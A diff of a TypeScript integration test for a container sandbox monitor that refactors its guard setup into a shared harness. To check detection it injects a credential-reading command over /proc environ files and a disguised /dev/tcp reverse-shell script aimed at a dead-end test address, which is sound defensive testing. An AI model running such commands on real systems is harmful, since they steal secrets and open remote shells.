@@ -18,50 +18,34 @@
  */
 import { strict as assert } from 'node:assert';
 import { ChildProcess, spawn, spawnSync } from 'node:child_process';
-import { randomBytes, randomInt } from 'node:crypto';
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
+import { randomInt } from 'node:crypto';
+import { existsSync, mkdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
 import * as path from 'node:path';
 import { after, before, describe, test } from 'node:test';
-import { GuardClient } from '../../helper/guard/client';
-import { auditLocation } from '../../helper/guard/monitor/audit-location';
 import { findContainerCgroup, listCgroupPids } from '../../helper/guard/monitor/collector';
 import { readFreezer, writeFreezer } from '../../helper/host/freezer';
 import type { IncusClient } from '../../helper/incus/client';
-import type { GuardEvent, ThreatEventWire, ThreatRecord } from '../../helper/protocol/methods';
-import { tmuxSession } from '../../helper/sandbox/naming';
+import type { ThreatRecord } from '../../helper/protocol/methods';
 import { DEAD_END_HOSTS, SETUP_NAMES } from '../../helper/setup/names';
-import { coi, CoiResult, HELPER, requireIncus, sleep } from './support';
+import { monitorHarness } from './monitor-harness';
+import { coi, requireIncus, sleep } from './support';
 
 const t0 = Date.now();
-const PREFIX = `coi-tm${randomBytes(2).toString('hex')}-`;
-const root = mkdtempSync('/tmp/coi-mon-it-');
-chmodSync(root, 0o755);
-const socketPath = path.join(root, 'guard.sock');
-// Its own network scope: the host's guard keeps fencing every other sandbox, this one only ours.
-const SCOPE = `mon${randomBytes(3).toString('hex')}`;
-const guardLog = path.join(root, 'guard.log');
+// Its own guard, network scope and prefix: the host's guard keeps fencing every other sandbox, this one only ours.
+const h = monitorHarness('tm');
+const { root, waitFor, threatsOf, auditLines } = h;
 const TARGET = DEAD_END_HOSTS.internet; // 198.51.100.2, in the dead-end namespace
 const PORT0 = randomInt(41_000, 48_000); // never a classic C2 port: the behaviour must be what is caught
 let c: IncusClient;
-let guard: ChildProcess | undefined;
 let listener: ChildProcess | undefined;
-let client: GuardClient;
-const threats: ThreatEventWire[] = [];
 const accepted = new Map<number, number>(); // port → time of the first accepted connection
 const measured: string[] = [];
 
 /** Two configurations: the default (monitoring on), and one that keeps a forensic copy (persistent, so no other guard's reaper races the copy). */
 const homes = { main: path.join(root, 'home'), forensics: path.join(root, 'home-forensics'), agent: path.join(root, 'home-agent') };
 const config = (extra = '', image = 'coi-base') => `[container]\nimage = "${image}"\n${extra}\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n${extra.includes('persistent') ? 'forensics_on_kill = true\n' : ''}\n[limits.runtime]\nmax_processes = 500\n`;
-
-function startGuard(): ChildProcess {
-  const fd = openSync(guardLog, 'a');
-  const g = spawn(process.execPath, [HELPER, 'guard', 'run'], {
-    env: { ...process.env, COI_GUARD_SOCKET: socketPath, COI_GUARD_SCOPE: SCOPE, COI_NET_STATE_DIR: path.join(root, 'net'), COI_NET_CACHE_DIR: path.join(root, 'net-cache'), COI_GUARD_MONITOR_PREFIX: PREFIX, COI_LOG_LEVEL: 'debug' },
-    stdio: ['ignore', fd, fd],
-  });
-  return g;
-}
+const launch = (ws: string, home = homes.main): Promise<string> => h.launch(ws, home);
+const type = (name: string, text: string): Promise<void> => h.type(c, name, text);
 
 /** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 600 s (the file runs 4-5 minutes; after() kills it sooner). */
 function startListener(ports: number[]): Promise<void> {
@@ -99,54 +83,11 @@ function startListener(ports: number[]): Promise<void> {
   });
 }
 
-async function launch(ws: string, home = homes.main): Promise<string> {
-  mkdirSync(ws, { recursive: true });
-  let last: CoiResult | undefined;
-  for (let attempt = 1; attempt <= 2; attempt++) {
-    last = await coi(['shell', '--background', '--workspace', ws], { HOME: home, COI_CONTAINER_PREFIX: PREFIX, COI_GUARD_SOCKET: socketPath, COI_GUARD_SCOPE: SCOPE }, 180_000);
-    if (last.code === 0) return last.stdout.trim();
-    // Under heavy load a launch sometimes loses its tmux session (not the monitor's doing): once more.
-    if (!/tmux session .* ended at once/.test(last.stderr)) break;
-  }
-  throw new Error(`coi shell failed: ${last?.stderr}`);
-}
-
-/** Types a command into the agent's tmux pane, as the agent's own shell would run it. */
-async function type(name: string, text: string): Promise<void> {
-  const env = { HOME: '/home/code', USER: 'code' };
-  const a = await c.exec(name, ['tmux', 'send-keys', '-t', tmuxSession(name), '-l', text], { user: 1000, group: 1000, env });
-  assert.equal(a.exitCode, 0, a.stderr);
-  const b = await c.exec(name, ['tmux', 'send-keys', '-t', tmuxSession(name), 'Enter'], { user: 1000, group: 1000, env });
-  assert.equal(b.exitCode, 0, b.stderr);
-}
-
-function threatsOf(name: string): ThreatRecord[] {
-  return threats.filter((t) => t.container === name).map((t) => t.record);
-}
-
 /** What was pushed, and what is in the audit log (a subscriber reconnecting after a guard restart may miss a push). */
 function seenOf(name: string): ThreatRecord[] {
   const pushed = threatsOf(name);
   const ids = new Set(pushed.map((r) => r.id));
   return [...pushed, ...auditLines(name).records.filter((r) => !ids.has(r.id))];
-}
-
-async function waitFor<T>(what: string, f: () => T | undefined | Promise<T | undefined>, timeoutMs = 20_000, everyMs = 50): Promise<T> {
-  const deadline = Date.now() + timeoutMs;
-  for (;;) {
-    const v = await f();
-    if (v !== undefined) return v;
-    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}\n--- guard log (tail) ---\n${tail(guardLog, 30)}`);
-    await sleep(everyMs);
-  }
-}
-
-function tail(file: string, n: number): string {
-  try {
-    return readFileSync(file, 'utf8').split('\n').slice(-n).join('\n');
-  } catch {
-    return '';
-  }
 }
 
 /** The container's processes, from its cgroup on the host (works while it is frozen). */
@@ -161,23 +102,6 @@ function cmdlineOf(pid: number): string {
   } catch {
     return '';
   }
-}
-
-const auditFile = (name: string) => path.join(auditLocation(0).dir, `${name}.jsonl`);
-
-function auditLines(name: string): { records: ThreatRecord[]; bad: number } {
-  const text = existsSync(auditFile(name)) ? readFileSync(auditFile(name), 'utf8') : '';
-  let bad = 0;
-  const records: ThreatRecord[] = [];
-  for (const l of text.split('\n')) {
-    if (!l.trim()) continue;
-    try {
-      records.push(JSON.parse(l) as ThreatRecord);
-    } catch {
-      bad++;
-    }
-  }
-  return { records, bad };
 }
 
 async function gone(name: string, timeoutMs = 30_000): Promise<number> {
@@ -206,49 +130,20 @@ async function expectKilled(label: string, name: string, port: number, category 
 
 before(async () => {
   c = await requireIncus();
-  for (const [k, h] of Object.entries(homes)) {
-    mkdirSync(path.join(h, '.coi'), { recursive: true });
-    writeFileSync(path.join(h, '.coi', 'config.toml'), config(k === 'forensics' ? 'persistent = true\n' : '', k === 'agent' ? 'coi' : 'coi-base'));
+  for (const [k, home] of Object.entries(homes)) {
+    mkdirSync(path.join(home, '.coi'), { recursive: true });
+    writeFileSync(path.join(home, '.coi', 'config.toml'), config(k === 'forensics' ? 'persistent = true\n' : '', k === 'agent' ? 'coi' : 'coi-base'));
   }
   await startListener([0, 1, 2, 3, 4, 5, 6].map((i) => PORT0 + i));
-  guard = startGuard();
-  client = new GuardClient({ socketPath, reconnect: true });
-  client.on('event', (e: GuardEvent) => {
-    if (e.topic === 'threat') threats.push(e.event);
-  });
-  await client.subscribe(['threat']);
-  client.connect({ timeoutMs: 1_000 }).catch(() => undefined);
-  await client.waitConnected(20_000);
+  await h.connect();
 });
 
 after(async () => {
-  client?.close();
-  // Stopped, so it removes its trace instances (a guard killed -9 leaves them to the next one).
-  if (guard && guard.exitCode === null && guard.signalCode === null) {
-    const g = guard;
-    const exited = new Promise<void>((r) => g.once('exit', () => r()));
-    g.kill('SIGTERM');
-    await Promise.race([exited, sleep(5_000)]);
-    g.kill('SIGKILL');
-  }
   listener?.kill('SIGKILL');
-  for (const i of await c.listInstances().catch(() => [])) {
-    if (i.name.startsWith(PREFIX)) await c.deleteInstance(i.name, { force: true }).catch(() => undefined);
-  }
-  // The guard's log and the audit files stay in /tmp/coi-monitor-test-last for a look after a failure.
-  const keep = '/tmp/coi-monitor-test-last';
-  rmSync(keep, { recursive: true, force: true });
-  mkdirSync(keep, { recursive: true });
-  if (existsSync(guardLog)) writeFileSync(path.join(keep, 'guard.log'), readFileSync(guardLog));
-  const dir = auditLocation(0).dir;
-  for (const f of existsSync(dir) ? readdirSync(dir) : []) {
-    if (!f.startsWith(PREFIX)) continue;
-    writeFileSync(path.join(keep, f), readFileSync(path.join(dir, f)));
-    rmSync(path.join(dir, f), { force: true });
-  }
   if (measured.length) console.log(`\n# containment latencies (measured, not asserted)\n${measured.map((m) => `#   ${m}`).join('\n')}`);
   console.log(`# monitor.test: ${((Date.now() - t0) / 1000).toFixed(1)} s`);
-  rmSync(root, { recursive: true, force: true });
+  // The guard's log and the audit files stay in /tmp/coi-monitor-test-last for a look after a failure.
+  await h.close(c, '/tmp/coi-monitor-test-last');
 });
 
 describe('the monitor in the guard', () => {
@@ -279,7 +174,7 @@ describe('the monitor in the guard', () => {
     for (const n of Object.values(names)) {
       await waitFor(`${n} to be watched`, () => threatsOf(n).find((r) => r.title === 'Monitoring started'), 20_000);
     }
-    const listed = await coi(['list', '--format', 'json'], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
+    const listed = await coi(['list', '--format', 'json'], { HOME: homes.main, COI_CONTAINER_PREFIX: h.prefix });
     const sb = (JSON.parse(listed.stdout) as { sandboxes: { name: string; monitored?: boolean }[] }).sandboxes.find((s) => s.name === names.benign);
     assert.equal(sb?.monitored, true, 'coi list says it is monitored');
   });
@@ -314,7 +209,7 @@ describe('the monitor in the guard', () => {
 
   test('coi monitor shows the sandbox\'s processes and coi audit its log', async () => {
     const name = names.benign!;
-    const r = await coi(['monitor', name, '--format', 'json'], { COI_GUARD_SOCKET: socketPath, COI_GUARD_SCOPE: SCOPE });
+    const r = await coi(['monitor', name, '--format', 'json'], { ...h.guardEnv });
     assert.equal(r.code, 0, r.stderr);
     const snap = JSON.parse(r.stdout) as { execEvents: { available: boolean }; monitors: { state: string; processes: { argv: string[] }[] }[] };
     assert.equal(snap.monitors[0]?.state, 'watching');
@@ -359,7 +254,7 @@ describe('the monitor in the guard', () => {
     const reader = high.evidence.process?.pid ?? containerPids(name).find((pid) => cmdlineOf(pid) === 'cat\0/workspace/big.bin');
     assert.ok(reader, `the reader is named or found: ${high.description}`);
     process.kill(reader, 'SIGKILL');
-    const r = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
+    const r = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: h.prefix });
     assert.equal(r.code, 0, r.stderr);
     assert.equal(readFreezer(name), 'thawed');
     assert.equal((await c.getState(name)).status, 'Running');
@@ -369,7 +264,7 @@ describe('the monitor in the guard', () => {
     assert.equal(writeFreezer(name, true).ok, true);
     await waitFor('the cgroup to freeze', () => (readFreezer(name) === 'frozen' ? true : undefined), 5_000);
     assert.equal((await c.getState(name)).status, 'Running', 'Incus did not notice');
-    const r2 = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
+    const r2 = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: h.prefix });
     assert.equal(r2.code, 0, r2.stderr);
     assert.equal(readFreezer(name), 'thawed');
     assert.equal((await c.getState(name)).status, 'Running');
@@ -438,14 +333,15 @@ describe('the monitor in the guard', () => {
     const port = PORT0 + 4;
     await type(name, 'cat /proc/*/environ | grep -i key');
     const warning = await waitFor('the WARNING before the crash', () => threatsOf(name).find((r) => r.category === 'credential_access'), 10_000);
-    guard!.kill('SIGKILL');
-    await new Promise<void>((r) => (guard!.exitCode !== null || guard!.signalCode !== null ? r() : guard!.once('exit', () => r())));
+    const guard = h.guard()!;
+    guard.kill('SIGKILL');
+    await new Promise<void>((r) => (guard.exitCode !== null || guard.signalCode !== null ? r() : guard.once('exit', () => r())));
     // The attack runs while no guard watches.
     writeFileSync(path.join(root, 'ws-restart', 'rs.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
     await type(name, 'bash /workspace/rs.sh');
     await waitFor('the reverse shell to connect while the guard is down', () => (accepted.has(port) ? true : undefined), 15_000);
     const restartedAt = Date.now();
-    guard = startGuard();
+    h.startGuard();
     const crit = await expectKilled('after kill -9 of the guard (connected while no guard ran)', name, port);
     measured.push(`  the new guard froze it ${Date.parse(crit.response?.frozenAt ?? '') - restartedAt} ms after it was started (node start-up included)`);
     const { records, bad } = auditLines(name);
@@ -559,7 +455,7 @@ describe('the monitor on the agent image (python3, socat, npm, dig)', () => {
     assert.ok(auditLines(name).records.some((r) => r.id === label.id), 'in the audit log');
     measured.push(`DNS long labels: first query sent ≤ ${Date.parse(label.timestamp) - before1} ms before the HIGH (${label.description})`);
 
-    const r = await coi(['resume', name], { HOME: homes.agent, COI_CONTAINER_PREFIX: PREFIX });
+    const r = await coi(['resume', name], { HOME: homes.agent, COI_CONTAINER_PREFIX: h.prefix });
     assert.equal(r.code, 0, r.stderr);
     await waitFor('the first loop to finish', () => (existsSync(path.join(ws, 'label.done')) ? true : undefined), 30_000, 200);
 
